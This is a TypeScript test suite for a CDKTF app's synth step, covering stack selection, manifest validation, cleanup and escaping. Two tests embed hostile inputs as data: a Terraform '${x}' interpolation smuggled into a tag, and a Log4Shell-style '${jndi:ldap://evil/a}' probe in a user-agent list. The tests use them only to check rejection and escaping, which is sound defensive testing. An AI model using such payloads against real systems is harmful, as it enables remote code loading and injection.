/**
 * The app as `cdktf synth` runs it (`tsx main.ts`, docs/design.md contract 1): ACCOUNTS_DIR, STACKS,
 * and a manifest mistake that writes no stack at all.
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { manifestFolder, VALID_ORGANIZATION } from "./support/manifest-folder";

const ROOT = join(__dirname, "..");

function synth(env: Record<string, string>, outdir = mkdtempSync(join(tmpdir(), "tripline-synth-"))) {
  const run = spawnSync(process.execPath, ["--import", "tsx", "main.ts"], {
    cwd: ROOT,
    env: { ...process.env, CHECKPOINT_DISABLE: "1", CDKTF_OUTDIR: outdir, ...env },
    encoding: "utf8",
  });
  const stacksDir = join(outdir, "stacks");
  // A stack is what Terraform would apply: a folder with its synthesized configuration.
  const stacks = existsSync(stacksDir) ? readdirSync(stacksDir).filter((name) => existsSync(join(stacksDir, name, "cdk.tf.json"))) : [];
  return { status: run.status, stderr: run.stderr, stacks: stacks.sort(), outdir };
}

describe("npm run synth", () => {
  test("writes one stack per account of ACCOUNTS_DIR", () => {
    const result = synth({ ACCOUNTS_DIR: manifestFolder() });
    expect(result.stderr).toBe("");
    expect(result.stacks).toEqual(["app", "log-archive", "management", "security"]);
  });

  test("STACKS builds only the named accounts", () => {
    const result = synth({ ACCOUNTS_DIR: manifestFolder(), STACKS: "app, security" });
    expect(result.status).toBe(0);
    expect(result.stacks).toEqual(["app", "security"]);
  });

  test("an unknown name in STACKS is an error that lists the known ones", () => {
    const result = synth({ ACCOUNTS_DIR: manifestFolder(), STACKS: "app,payments" });
    expect(result.status).toBe(1);
    expect(result.stderr).toBe('STACKS: unknown stack "payments"; known stacks: app, log-archive, management, security\n');
    expect(result.stacks).toEqual([]);
  });

  test("refuses an invalid manifest with validate's messages, writes no stack and prints no trace", () => {
    const dir = manifestFolder({ "app.yaml": 'name: app\nid: "4444"\nrole: workload\nemail: app@example.com\n' });
    const result = synth({ ACCOUNTS_DIR: dir });
    expect(result.status).toBe(1);
    expect(result.stderr).toBe(`${dir}/app.yaml:2:5 id: "4444" is not a 12-digit AWS account id\n`);
    expect(result.stacks).toEqual([]);
  });

  test("a failed synth leaves none of the previous run's stacks behind, and keeps their local state", () => {
    const first = synth({ ACCOUNTS_DIR: manifestFolder() });
    expect(first.stacks).toEqual(["app", "log-archive", "management", "security"]);
    const state = join(first.outdir, "stacks", "app", "terraform.app.tfstate");
    writeFileSync(state, "{}");
    const broken = manifestFolder({ "app.yaml": 'name: app\nid: "4444"\nrole: workload\nemail: app@example.com\n' });
    const second = synth({ ACCOUNTS_DIR: broken }, first.outdir);
    expect(second.status).toBe(1);
    expect(second.stacks).toEqual([]);
    expect(existsSync(join(first.outdir, "manifest.json"))).toBe(false);
    expect(readFileSync(state, "utf8")).toBe("{}");
  });

  test("a hostile manifest through synth: exit 1, file and line, no trace", () => {
    const dir = manifestFolder({ "app.yaml": 'name: app\nid: "444444444444"\nrole: workload\nemail: app@example.com\ntags:\n  owner: "${x}"\n' });
    const result = synth({ ACCOUNTS_DIR: dir });
    expect(result.status).toBe(1);
    expect(result.stderr).toBe(
      `${dir}/app.yaml:6:10 tags.owner: "\${x}" holds "\${" or "%{", which Terraform would evaluate as code; only exception reasons and user agents may (written escaped)\n`,
    );
  });

  test("an output folder that cannot be written: exit 1 with its path, no trace", () => {
    const outdir = join(mkdtempSync(join(tmpdir(), "tripline-synth-")), "file");
    writeFileSync(outdir, "not a folder");
    const result = synth({ ACCOUNTS_DIR: manifestFolder() }, outdir);
    expect(result.status).toBe(1);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(result.stderr).toMatch(/^.*file.*: cannot \w+ \((ENOTDIR|EEXIST)\)\n$/);
  });

  test("a user agent holding ${…} reaches cdk.tf.json escaped, as text", () => {
    const org = `${VALID_ORGANIZATION["organization.yaml"] as string}detections:\n  exceptions:\n    unauthorized-api-calls:\n      - reason: "log4shell probes"\n        userAgents: ["\${jndi:ldap://evil/a}"]\n`;
    const result = synth({ ACCOUNTS_DIR: manifestFolder({ "organization.yaml": org }) });
    expect(result.status).toBe(0);
    const json = readFileSync(join(result.outdir, "stacks", "management", "cdk.tf.json"), "utf8");
    expect(json).toContain("$${jndi:ldap://evil/a}");
    expect(json).not.toMatch(/(?<!\$)\$\{jndi/);
  });
});
